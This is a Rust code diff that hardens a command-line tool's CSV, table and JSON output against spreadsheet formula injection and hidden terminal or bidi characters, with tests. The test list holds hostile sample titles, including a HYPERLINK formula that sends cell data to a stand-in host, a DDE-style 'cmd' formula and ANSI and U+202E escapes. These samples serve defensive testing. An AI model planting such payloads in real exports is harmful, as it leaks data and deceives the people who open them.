@@ -4,7 +4,10 @@ use std::io::Write as _;
 use comfy_table::{ContentArrangement, Table, presets};
 use serde_json::{Value, json};
 
+use crate::domain::characters::{printable, printable_lines};
+use crate::domain::json::shown;
 use crate::domain::reason::{Lang, Reason, Refusal};
+use crate::domain::text::begins_formula;
 
 /// The form of data on standard output.
 #[derive(Clone, Copy, PartialEq, Eq, Debug, Default, clap::ValueEnum)]
@@ -50,7 +53,7 @@ impl Output {
                         Value::Object(pairs.collect())
                     })
                     .collect();
-                data(&format!("{:#}\n", Value::Array(objects)))
+                data(&(shown(&Value::Array(objects)) + "\n"))
             }
             Format::Table => {
                 let mut table = Table::new();
@@ -62,9 +65,8 @@ impl Output {
                 data(&format!("{table}\n"))
             }
             Format::Csv => {
-                let header = columns.iter().map(|(_, en)| (*en).to_owned()).collect();
-                let rows = rows.iter().map(|row| row.iter().map(raw).collect());
-                let lines = std::iter::once(header).chain(rows).map(|cells: Vec<String>| csv_line(&cells));
+                let header = columns.iter().map(|(_, en)| Value::from(*en)).collect();
+                let lines = std::iter::once(&header).chain(rows).map(|cells| csv_line(cells));
                 data(&lines.collect::<String>())
             }
         }
@@ -73,15 +75,15 @@ impl Output {
     /// Prints one thing: its JSON, or its text. As CSV its plain fields are one row.
     pub fn one(&self, value: &Value, text: &str) -> Result<(), Refusal> {
         match self.format {
-            Format::Json => data(&format!("{value:#}\n")),
+            Format::Json => data(&(shown(value) + "\n")),
             Format::Csv => {
                 let fields = value.as_object().into_iter().flatten();
                 let plain = fields.filter(|(_, value)| !value.is_array() && !value.is_object());
-                let (names, cells): (Vec<String>, Vec<String>) =
-                    plain.map(|(name, value)| (name.clone(), raw(value))).unzip();
+                let (names, cells): (Vec<Value>, Vec<Value>) =
+                    plain.map(|(name, value)| (Value::from(name.as_str()), value.clone())).unzip();
                 data(&format!("{}{}", csv_line(&names), csv_line(&cells)))
             }
-            Format::Table => data(&format!("{}\n", text.trim_end())),
+            Format::Table => data(&format!("{}\n", printable_lines(text.trim_end()))),
         }
     }
 
@@ -97,7 +99,7 @@ impl Output {
                     "help": reason.help(lang),
                     "metadata": refusal.fields,
                 }});
-                let _ = data(&format!("{error:#}\n"));
+                let _ = data(&(shown(&error) + "\n"));
             }
             Format::Table | Format::Csv => self.talk(&error_text(refusal, lang)),
         }
@@ -107,7 +109,7 @@ impl Output {
     pub fn talk(&self, text: &str) {
         let mut stderr = std::io::stderr().lock();
         // A closed standard error leaves nobody to tell.
-        let _ = writeln!(stderr, "{text}");
+        let _ = writeln!(stderr, "{}", printable_lines(text));
     }
 }
 
@@ -152,7 +154,7 @@ pub fn data(text: &str) -> Result<(), Refusal> {
 
 fn plain(value: &Value) -> String {
     match value {
-        Value::String(text) => text.clone(),
+        Value::String(text) => printable(text),
         Value::Null => "–".to_owned(),
         Value::Bool(true) => "ja".to_owned(),
         Value::Bool(false) => "nein".to_owned(),
@@ -160,22 +162,37 @@ fn plain(value: &Value) -> String {
     }
 }
 
-/// A value as programs read it; nothing for null.
-fn raw(value: &Value) -> String {
+/// A value as spreadsheets may read it; nothing for null. Numbers stay numbers.
+fn cell(value: &Value) -> String {
     match value {
-        Value::String(text) => text.clone(),
+        Value::String(text) => inert(&printable_lines(text)),
         Value::Null => String::new(),
         other => other.to_string(),
     }
 }
 
-/// One line of CSV. A cell is quoted where it would otherwise be read as something else.
-fn csv_line(cells: &[String]) -> String {
-    let quoted = |cell: &String| match cell.contains(['"', ',', '\n', '\r']) {
+/// Text that no spreadsheet executes: an apostrophe stands before what would begin a formula, at the beginning of the cell
+/// and wherever a program that separates cells by semicolons or tabs would see one begin.
+fn inert(text: &str) -> String {
+    let mut safe = String::with_capacity(text.len());
+    let mut begins = true;
+    for (at, c) in text.char_indices() {
+        if begins && begins_formula(&text[at..]) {
+            safe.push('\'');
+        }
+        begins = matches!(c, ';' | '\t' | '\n') || begins && matches!(c, ' ' | '"');
+        safe.push(c);
+    }
+    safe
+}
+
+/// One line of CSV (RFC 4180). A cell is quoted where it would otherwise be read as something else.
+fn csv_line(cells: &[Value]) -> String {
+    let quoted = |cell: String| match cell.contains(['"', ',', ';', '\t', '\n', '\r']) {
         true => format!("\"{}\"", cell.replace('"', "\"\"")),
-        false => cell.clone(),
+        false => cell,
     };
-    cells.iter().map(quoted).collect::<Vec<_>>().join(",") + "\r\n"
+    cells.iter().map(|value| quoted(cell(value))).collect::<Vec<_>>().join(",") + "\r\n"
 }
 
 #[cfg(test)]
@@ -184,7 +201,40 @@ mod tests {
 
     #[test]
     fn a_cell_with_a_comma_or_a_quote_is_one_cell() {
-        let cells = ["a".to_owned(), "b, c".to_owned(), "d \"e\"".to_owned(), String::new()];
+        let cells = [json!("a"), json!("b, c"), json!("d \"e\""), Value::Null];
         assert_eq!(csv_line(&cells), "a,\"b, c\",\"d \"\"e\"\"\",\r\n");
+    }
+
+    /// Titles as strangers have tried them.
+    const HOSTILE: [(&str, &str, &str); 8] = [
+        (
+            "=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")",
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Wohngeld\"\")\"",
+            "=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")",
+        ),
+        ("-2+3+cmd", "'-2+3+cmd", "-2+3+cmd"),
+        ("@SUM(1+1)", "'@SUM(1+1)", "@SUM(1+1)"),
+        ("＝1+1", "'＝1+1", "＝1+1"),
+        ("Hund; =1+1", "\"Hund; '=1+1\"", "Hund; =1+1"),
+        ("\nabc", "\"\nabc\"", "⟨U+000A⟩abc"),
+        (
+            "Wohngeld \u{202e}gnubegnarebeis\u{202c}",
+            "Wohngeld ⟨U+202E⟩gnubegnarebeis⟨U+202C⟩",
+            "Wohngeld ⟨U+202E⟩gnubegnarebeis⟨U+202C⟩",
+        ),
+        ("\u{1b}[31mrot", "⟨U+001B⟩[31mrot", "⟨U+001B⟩[31mrot"),
+    ];
+
+    #[test]
+    fn text_of_others_neither_acts_nor_hides_in_a_spreadsheet_or_a_terminal() {
+        for (title, in_csv, in_table) in HOSTILE {
+            assert_eq!(csv_line(&[json!(title), json!(-5)]), format!("{in_csv},-5\r\n"));
+            assert_eq!(plain(&json!(title)), in_table);
+            let text = shown(&json!({ "title": title }));
+            assert!(!text.chars().any(|c| crate::domain::characters::hides(c) && c != '\n'), "{text}");
+            let refusal = Refusal::new(Reason::FieldInvalid).with("value", title);
+            let words = error_text(&refusal, Lang::De);
+            assert!(words.contains(in_table) && !words.contains(['\u{1b}', '\u{202e}']), "{words}");
+        }
     }
 }
